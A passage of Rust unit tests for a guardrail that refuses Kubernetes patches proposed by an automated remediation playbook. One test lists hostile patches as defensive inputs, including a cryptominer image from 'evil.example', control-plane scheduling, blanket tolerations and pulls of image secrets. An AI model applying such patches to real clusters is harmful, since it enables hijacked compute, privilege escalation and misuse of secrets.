        assert!(has(&verdict_as(PatchType::Json, json!({"not": "ops"})), |r| matches!(r, Refusal::DoesNotApply(_))));
        assert!(has(&verdict_as(PatchType::Strategic, json!(["x"])), |r| matches!(r, Refusal::DoesNotApply(_))));
    }

    #[test]
    fn a_new_container_needs_its_own_allowance() {
        let patch = json!({"spec": {"template": {"spec": {"containers": [{"name": "sidecar", "image": "busybox"}]}}}});
        let v = verdict(patch);
        assert!(has(&v, |r| matches!(r, Refusal::PathNotAllowed { path, .. } if path == C)), "{}", v.summary());
    }

    #[test]
    fn bounds_cannot_be_dodged_by_notation_removal_or_text() {
        // Exponents are quantities too, and are bounded like any other.
        let v = verdict(container(json!({"resources": {"limits": {"memory": "1e12"}}})));
        assert!(has(&v, |r| matches!(r, Refusal::Ceiling { .. })), "{}", v.summary());
        // Removing a bounded number (an unlimited container) or replacing it by text.
        let v = verdict(container(json!({"resources": {"limits": {"memory": null}}})));
        assert!(has(&v, |r| matches!(r, Refusal::NotNumeric { .. })), "{}", v.summary());
        let v = verdict_as(
            PatchType::Json,
            json!([{"op": "remove", "path": "/spec/template/spec/containers/0/resources/limits/memory"}]),
        );
        assert!(has(&v, |r| matches!(r, Refusal::NotNumeric { .. })), "{}", v.summary());
        let v = verdict(container(json!({"env": [{"name": "POOL_SIZE", "value": "1_000"}]})));
        assert!(has(&v, |r| matches!(r, Refusal::NotNumeric { .. })), "{}", v.summary());
    }

    #[test]
    fn broad_allowances_still_refuse_new_images_scheduling_and_secret_pulls() {
        let mut wide = rules();
        wide.allowed_paths = vec!["spec".into()];
        for patch in [
            json!({"spec": {"template": {"spec": {"initContainers": [{"name": "x", "image": "evil.example/miner:1"}]}}}}),
            json!({"spec": {"template": {"spec": {"nodeSelector": {"node-role.kubernetes.io/control-plane": ""}}}}}),
            json!({"spec": {"template": {"spec": {"tolerations": [{"operator": "Exists"}]}}}}),
            json!({"spec": {"template": {"spec": {"imagePullSecrets": [{"name": "registry"}]}}}}),
            json!({"spec": {"template": {"spec": {"shareProcessNamespace": true}}}}),
            json!({"spec": {"template": {"spec": {"hostAliases": [{"ip": "10.0.0.1", "hostnames": ["db"]}]}}}}),
            json!({"spec": {"template": {"spec": {"ephemeralContainers": [{"name": "debug", "image": "busybox"}]}}}}),
            json!({"spec": {"selector": {"matchLabels": {"app": "other"}}}}),
        ] {
            let v = check(
                &wide,
                &TARGET,
                &current(),
                &Proposed { target: TARGET, patch_type: PatchType::Strategic, patch: &patch },
            );
            assert!(!v.allowed(), "{patch} passed");
        }
    }

    #[test]
    fn a_patch_that_changes_nothing_is_refused() {
        let v = verdict(container(json!({"resources": {"limits": {"memory": "256Mi"}}})));
        assert_eq!(v.refusals, vec![Refusal::NoChange]);
    }

    #[test]
    fn rules_come_from_the_playbook_with_ceilings_where_its_parameters_go() {
        use crate::api::playbook::{ParameterType, PatchMode};
        use crate::api::validate::ValidParameter;
        let pb = ValidPlaybook {
            target_kinds: vec![],
            reads: vec![],
            patch_mode: PatchMode::Template,
            patch_type: PatchType::Strategic,
            template: Some(
                "spec:\n  template:\n    spec:\n      containers:\n        - name: \"{{ labels.container }}\"\n          resources:\n            limits:\n              memory: \"{{ params.memory }}\"\n".into(),
            ),
            parameters: vec![ValidParameter {
                name: "memory".into(),
                type_: ParameterType::Quantity,
                value: "current * 2".into(),
                min: None,
                max: Some(2.0 * 1024.0 * 1024.0 * 1024.0),
                max_factor: Some(3.0),
                allowed: vec![],
                newer: false,
                delegate: false,
            }],
            allowed_paths: vec![format!("{C}.resources.limits.memory")],
            verify: None,
            rollback_on_failure: true,
            agent_instructions: None,
            rollout: Default::default(),
        };
        let r = Rules::from_playbook(&pb);
        assert_eq!(r.max_factor, 3.0);
        assert_eq!(r.ceilings, vec![(format!("{C}.resources.limits.memory"), 2.0 * 1024.0 * 1024.0 * 1024.0)]);
        assert_eq!(r.allowed_paths, pb.allowed_paths);

        // A field named by the alert gets its ceiling once the run's placeholders resolve;
        // an unquoted parameter does not hide its placement.
        let config = ValidPlaybook {
            template: Some("data:\n  \"{{ labels.key }}\": {{ params.memory }}\n".into()),
            allowed_paths: vec!["data".into()],
            ..pb.clone()
        };
        let lookup = |n: &str| (n == "labels.key").then(|| "POOL".to_owned());
        let r = Rules::from_playbook_in(&config, &lookup);
        assert_eq!(r.ceilings, vec![("data.POOL".to_owned(), 2.0 * 1024.0 * 1024.0 * 1024.0)]);
        // A value that is not inert stays a placeholder (and so matches no field).
        let r = Rules::from_playbook_in(&config, &|_| Some("a b".into()));
        assert_eq!(r.ceilings, vec![("data.{{ labels.key }}".to_owned(), 2.0 * 1024.0 * 1024.0 * 1024.0)]);
        // A template that is not YAML allows nothing.
        let broken = ValidPlaybook { template: Some("data: [\n".into()), ..pb };
        assert!(Rules::from_playbook(&broken).allowed_paths.is_empty());
    }
}
